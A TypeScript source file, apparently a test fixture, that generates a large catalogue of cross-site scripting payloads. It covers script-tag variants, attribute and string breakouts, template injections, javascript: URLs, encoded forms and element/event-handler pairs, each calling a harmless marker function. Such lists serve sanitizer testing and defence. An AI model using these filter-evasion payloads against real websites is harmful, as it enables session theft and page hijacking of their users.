/**
 * Ways in which a text becomes a script where a page takes it for markup, an attribute, an address, a template or a style:
 * every one of them would call `ran` with its number. After OWASP's cheat sheet of filter evasion and the vectors that
 * PortSwigger collects, in our own words.
 */
export function scriptPayloads(): string[] {
  const call = (number: number): string => `window.ran(${number})`;
  const shapes: ((code: string) => string)[] = [
    // Markup.
    (code) => `<script>${code}</script>`,
    (code) => `<ScRiPt>${code}</sCrIpT>`,
    (code) => `<script/x>${code}</script >`,
    (code) => `<scr<script>ipt>${code}</scr</script>ipt>`,
    (code) => `<script src="data:text/javascript,${code}"></script>`,
    (code) => `<script type="module">${code}</script>`,
    (code) => `<svg><script>${code}</script></svg>`,
    (code) => `<svg><script href="data:text/javascript,${code}" /></svg>`,
    (code) => `<math><mtext><script>${code}</script></mtext></math>`,
    (code) => `<noscript><p title="</noscript><script>${code}</script>">`,
    (code) => `<template><script>${code}</script></template>`,
    (code) => `<!--><script>${code}</script-->`,
    (code) => `<![CDATA[><script>${code}</script>]]>`,
    (code) => `<style><img src="</style><img src=x onerror=${code}>">`,
    (code) => `<textarea><img title="</textarea><img src=x onerror=${code}>">`,
    (code) => `<xmp><p title="</xmp><script>${code}</script>">`,
    (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
    (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
    (code) => `<embed src="data:text/html,<script>${code}</script>">`,
    (code) => `<base href="javascript:${code}//">`,
    (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
    (code) => `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${code})}">`,
    (code) => `<form action="javascript:${code}"><button>x</button></form>`,
    (code) => `<button formaction="javascript:${code}" type="submit">x</button>`,
    (code) => `<svg><animate attributeName="href" values="javascript:${code}" begin="0s" /></svg>`,
    (code) => `<svg><use href="data:image/svg+xml,<svg id='x' onload='${code}'/>#x" /></svg>`,
    // Out of an attribute or a text of the page.
    (code) => `"><script>${code}</script>`,
    (code) => `'><script>${code}</script>`,
    (code) => `</title><script>${code}</script>`,
    (code) => `</script><script>${code}</script>`,
    (code) => `</textarea><script>${code}</script>`,
    (code) => `</style><script>${code}</script>`,
    (code) => `--><script>${code}</script>`,
    (code) => `" onmouseover="${code}" x="`,
    (code) => `' onfocus='${code}' autofocus x='`,
    (code) => `" autofocus onfocus="${code}" tabindex="0`,
    (code) => '` onload=`' + code + '`',
    (code) => `x" style="animation-name:x" onanimationstart="${code}`,
    // Out of a string of a script, and templates.
    (code) => `";${code};//`,
    (code) => `';${code};//`,
    (code) => `\\";${code};//`,
    (code) => '${' + code + '}',
    (code) => `{{${code}}}`,
    (code) => `{{constructor.constructor('${code}')()}}`,
    (code) => `{@html '<img src=x onerror=${code}>'}`,
    (code) => `<%= ${code} %>`,
    (code) => `\u2028${code}\u2029`,
    // Addresses.
    (code) => `javascript:${code}`,
    (code) => `JaVaScRiPt:${code}`,
    (code) => `java\tscript:${code}`,
    (code) => `java\nscript:${code}`,
    (code) => `\u0001javascript:${code}`,
    (code) => ` javascript:${code}`,
    (code) => `javascript://example.org/%0a${code}`,
    (code) => `data:text/html,<script>${code}</script>`,
    (code) => `vbscript:${code}`,
    (code) => `https://example.org/" onmouseover="${code}`,
    (code) => `https://example.org/'><script>${code}</script>`,
    // As it may be written.
    (code) => `&lt;script&gt;${code}&lt;/script&gt;`,
    (code) => `&#60;img src=x onerror=${code}&#62;`,
    (code) => `\\u003cscript\\u003e${code}\\u003c/script\\u003e`,
    (code) => `%3Cscript%3E${code}%3C/script%3E`,
    (code) => `＜script＞${code}＜/script＞`,
    (code) => `<\u0000script>${code}</script>`,
    (code) => `<img src=x onerror\u000B=${code}>`,
    (code) => `+ADw-script+AD4-${code}+ADw-/script+AD4-`,
  ];
  const elements = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'iframe',
    'marquee',
    'select autofocus',
    'a href=# tabindex=0 autofocus',
  ];
  const events = [
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onstart',
    'onanimationstart',
    'onpointerover',
    'onmouseenter',
    'ontransitionend',
    'onpageshow',
    'onbeforetoggle',
    'onscroll',
    'onhashchange',
    'onwheel',
  ];
  const handlers = elements.flatMap((element) =>
    events.map(
      (event) =>
        (code: string): string =>
          `<${element} ${event}=${code}>`,
    ),
  );
  return [...shapes, ...handlers].map((shape, number) => shape(call(number)));
}
